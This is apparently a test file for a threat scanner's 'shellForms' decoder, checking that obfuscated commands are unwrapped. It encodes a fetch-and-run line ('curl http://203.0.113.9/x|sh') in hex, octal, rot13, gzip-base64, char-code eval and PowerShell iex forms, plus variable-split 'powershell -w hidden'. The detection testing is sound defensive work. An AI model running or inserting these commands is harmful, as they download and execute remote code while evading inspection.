/** Hidden commands and the form in which each shows. */
import { gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { shellForms } from '../../../server/engine/threat/text/shell-forms.ts';

const hidden = 'curl http://203.0.113.9/x|sh';
const hex = Buffer.from(hidden).toString('hex');
const codes = [...hidden].map((letter) => letter.charCodeAt(0));
const octal = codes.map((code) => `\\${code.toString(8)}`).join('');
const percent = hex.replace(/../gu, '%$&');
const rot13 = 'phey uggc://203.0.113.9/k|fu';

test.each([
  ['hexadecimal, perl', `perl -e 'system(pack("H*","${hex}"))'`],
  ['hexadecimal, xxd', `echo ${hex} | xxd -r -p | sh`],
  ['hexadecimal, python', `python3 -c 'import os;os.system(bytes.fromhex("${hex}").decode())'`],
  ['octal, printf', `$(printf '${octal}')`],
  ['percent signs', `python3 -c "import os,urllib.parse as u;os.system(u.unquote('${percent}'))"`],
  ['rotation', `echo '${rot13}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash`],
  ['compressed base64', `echo ${gzipSync(hidden).toString('base64')} | base64 -d | gunzip | sh`],
  ['codes, PowerShell', `iex (${codes.map((code) => `[char]${code}`).join('+')})`],
  ['codes, a list', `-join (${codes.join(',')} | % {[char]$_}) | iex`],
  ['codes, JavaScript', `eval(String.fromCharCode(${codes.join(', ')}))`],
  ['codes, Python', `os.system(${codes.map((code) => `chr(${code})`).join('+')})`],
])('%s', (_, command) => {
  expect(shellForms(command).some((form) => form.includes(hidden))).toBe(true);
});

test.each([
  ['cmd', 'cmd /v /c "set a=power&&set b=shell&&!a!!b! -w hidden"', 'powershell -w hidden'],
  ['PowerShell', "$a='Start-';$b='BitsTransfer';& $a$b x", 'Start-BitsTransfer'],
])('variables of %s', (_, command, shown) => {
  expect(shellForms(command).some((form) => form.includes(shown))).toBe(true);
});

test('numbers of an ordinary line are left alone', () => {
  const line = 'chart 2026-11-22 10, 20, 30, 40, 50, 60, 70 points 0123456789abcdef';
  expect(shellForms(line)).toEqual([line]);
});
